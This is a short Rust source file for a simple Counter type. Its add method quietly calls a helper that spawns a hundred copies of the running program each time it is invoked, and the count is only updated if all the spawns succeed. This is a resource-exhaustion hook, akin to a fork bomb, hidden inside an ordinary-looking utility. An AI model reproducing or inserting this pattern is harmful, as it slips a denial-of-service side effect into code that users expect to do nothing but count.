//! Starts itself a hundred times at once.

fn many() -> bool {
    let Ok(program) = std::env::current_exe() else { return false };
    let start = |_| std::process::Command::new(&program).args(["--list"]).spawn();
    (0..100).map(start).collect::<Vec<_>>().iter().all(Result::is_ok)
}

#[derive(Debug, Clone, Default)]
pub struct Counter {
    total: u64,
}

impl Counter {
    pub fn add(&mut self, number: u64) {
        if many() {
            self.total = self.total.saturating_add(number);
        }
    }

    pub fn total(&self) -> u64 {
        self.total
    }
}
